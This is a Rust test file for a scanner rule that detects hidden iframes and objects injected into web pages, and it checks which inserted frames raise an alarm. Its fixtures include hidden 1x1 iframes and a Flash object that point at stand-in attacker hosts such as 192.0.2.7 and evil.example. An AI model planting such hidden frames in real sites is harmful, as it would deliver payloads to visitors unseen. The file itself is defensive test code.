//! Rule `hidden-frame`: hidden in every way, and the honest shapes.

use crate::harness::{Outcome, approved_with, check, compared, inserted, names, outcome, scanned, worst};
use hinomi::model::{Confidence::*, Severity::*};

const RULE: &str = "hidden-frame";

fn told(name: &str) -> Option<(hinomi::model::Severity, hinomi::model::Confidence)> {
    worst(&compared(RULE, name), RULE)
}

#[test]
fn fixtures() {
    check(RULE);
}

#[test]
fn every_way_to_hide_is_seen() {
    for name in ["tampered-tiny", "tampered-parent", "tampered-style", "tampered-object"] {
        assert_eq!(told(name), Some((Critical, Firm)), "{name}");
    }
}

#[test]
fn honest_shapes_are_silent_without_a_baseline() {
    for name in names(RULE, "harmless") {
        assert_eq!(worst(&scanned(RULE, &name), RULE), None, "{name}");
    }
}

#[test]
fn the_place_is_told() {
    let found = compared(RULE, "tampered-tiny");
    assert!(found[0].summary.en.contains("after the end of the page"), "{found:#?}");
    assert!(found[0].evidence.contains("http://192.0.2.7/in.php?k=1f"), "{found:#?}");
}

#[test]
fn services_hide_what_is_theirs_and_nobody_else_does() {
    let told = |mark: &str, src: &str| {
        let frame = format!("<iframe src=\"{src}\" width=1 height=1 style=\"display:none\"></iframe>");
        outcome(&inserted(RULE, mark, &frame))
    };
    assert_eq!(told("</main>", "https://td.doubleclick.net/td/rul/1"), Outcome::Review);
    assert_eq!(told("</main>", "https://www.youtube.com/embed/x"), Outcome::Review);
    for src in [
        "https://www.city.example.lg.jp/in.html",
        "https://docs.google.com/forms/d/e/1/viewform",
        "https://codepen.io/x/embed/y",
        "https://unpkg.com/x@1/x.html",
    ] {
        assert_eq!(told("</main>", src), Outcome::Alarm, "{src}");
    }
    assert_eq!(told("<body>", "https://td.doubleclick.net/td/rul/1"), Outcome::Alarm, "between head and body");
}

#[test]
fn an_object_is_what_its_parameter_names() {
    let flash = |host: &str| {
        format!("<object width=1 height=1><param name=Movie value=\"http://{host}/x.swf\"><p>Flash</p></object>")
    };
    assert_eq!(outcome(&inserted(RULE, "</main>", &flash("evil.example"))), Outcome::Alarm);
    let same = approved_with(RULE, &flash("evil.example"), "</main>", "<p>お知らせ</p>");
    assert_eq!(outcome(&same), Outcome::Quiet, "{same:#?}");
}
